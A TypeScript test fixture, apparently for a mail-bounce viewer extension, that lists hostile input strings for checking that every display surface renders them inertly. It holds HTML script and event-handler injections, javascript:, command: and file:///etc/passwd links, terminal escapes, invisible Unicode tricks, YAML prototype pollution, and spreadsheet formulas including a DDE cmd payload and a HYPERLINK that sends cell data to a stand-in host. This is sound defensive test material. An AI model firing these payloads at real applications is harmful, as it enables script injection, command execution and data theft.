/**
 * What somebody who writes to us through a mail may write so that it runs, loads, or reads differently from what is there. The same strings go
 * through every surface (injection.test.ts in each room's tests, e2e in real browsers and a real VS Code); docs/hostile-input.md has the table.
 */

export interface Injection {
  /** Names it in a failing test. */
  readonly id: string;
  readonly text: string;
}

/** Called where one of them runs as a script; an address where one of them is loaded from. Neither exists anywhere. */
export const alarm = 'bounceLensPwned';
export const alarmHost = 'fetched.example';

const url = `https://${alarmHost}`;

const markup: readonly Injection[] = [
  { id: 'html-script', text: `<script>${alarm}()</script>` },
  { id: 'html-image', text: `<img src=x onerror=${alarm}()>` },
  { id: 'html-image-from-afar', text: `<img src="${url}/i.png">` },
  { id: 'html-svg', text: `<svg/onload=${alarm}()>` },
  { id: 'html-style', text: `<style>@import "${url}/s.css";</style>` },
  { id: 'html-frame', text: `<iframe srcdoc="<script>${alarm}()</script>"></iframe>` },
  { id: 'html-breaks-out', text: `"'></p></div></template><b onmouseover=${alarm}()>x` },
  { id: 'html-entities', text: `&lt;img src=x onerror=${alarm}()&gt; &#60;b&#62; &Tab;` },
  { id: 'html-comment', text: `--><!--><script>${alarm}()</script>` },
];
const markdown: readonly Injection[] = [
  { id: 'markdown-link', text: `[click](${url}/x)` },
  { id: 'markdown-command', text: '[run](command:workbench.action.terminal.new?%5B%5D)' },
  { id: 'markdown-script-link', text: `[run](javascript:${alarm}())` },
  { id: 'markdown-image', text: `![](${url}/i.png)` },
  { id: 'markdown-reference', text: `[a]: ${url}/x "t"` },
  { id: 'markdown-autolink', text: `<${url}/x> www.${alarmHost}` },
  { id: 'markdown-code-escape', text: '``` `` ` \\` ```x' },
  { id: 'markdown-icon', text: '$(alert) $(sync~spin)' },
  { id: 'markdown-heading', text: '# **550** _x_ ~~y~~ | a | b |' },
];
const addresses: readonly Injection[] = [
  { id: 'scheme-command', text: 'command:workbench.action.closeWindow' },
  { id: 'scheme-javascript', text: `javascript:${alarm}()` },
  { id: 'scheme-data', text: `data:text/html,<script>${alarm}()</script>` },
  { id: 'scheme-file', text: 'file:///etc/passwd' },
  { id: 'scheme-vscode', text: 'vscode://example.bounce-lens/run?x' },
];
const unseen: readonly Injection[] = [
  { id: 'bidi-override', text: 'moc.elpmaxe@\u202Emik\u202C' },
  { id: 'bidi-isolate', text: '\u2066kim\u2069\u2067example\u2069' },
  { id: 'bidi-marks', text: 'a\u200Eb\u200Fc\u061Cd' },
  { id: 'zero-width', text: 'exa\u200Bmple\u2060.\uFEFFcom' },
  { id: 'line-separators', text: 'one\u2028two\u2029three' },
  { id: 'tags', text: 'x\u{E0061}\u{E0062}y' },
];
const terminal: readonly Injection[] = [
  { id: 'escape-colour', text: '\x1b[31mred\x1b[0m' },
  { id: 'escape-title', text: '\x1b]0;owned\x07' },
  { id: 'escape-link', text: `\x1b]8;;${url}\x1b\\click\x1b]8;;\x1b\\` },
  { id: 'escape-clear', text: '\x1b[2J\x1b[H' },
  { id: 'escape-c1', text: '\x9b31m\x9d0;owned\x9c' },
  { id: 'escape-rewrite', text: 'fine\rrefused\x08\x08\x08' },
  { id: 'nul', text: 'a\x00b' },
];
const spreadsheet: readonly Injection[] = [
  { id: 'formula', text: `=HYPERLINK("${url}?"&A1,"x")` },
  { id: 'formula-dde', text: "=cmd|' /C calc'!A0" },
  { id: 'formula-plus', text: '+1+1|cmd' },
  { id: 'formula-minus', text: '-2+3' },
  { id: 'formula-at', text: '@SUM(1+1)*cmd' },
  { id: 'formula-behind-tab', text: '\t=1+1' },
  { id: 'formula-behind-quote', text: '"=1+1","=2+2"' },
  { id: 'formula-full-width', text: '\uff1d1+1' },
  { id: 'cell-break', text: 'a","b\r\n=1+1,c' },
];
const yaml: readonly Injection[] = [
  { id: 'yaml-tag', text: `!!js/function "function () { ${alarm}() }"` },
  { id: 'yaml-alias', text: '&a [*a, *a]' },
  { id: 'yaml-merge', text: '<<: *x' },
  { id: 'yaml-prototype', text: '__proto__: { polluted: true }' },
];

/** All of them. */
export const injections: readonly Injection[] = [...markup, ...markdown, ...addresses, ...unseen, ...terminal, ...spreadsheet, ...yaml];
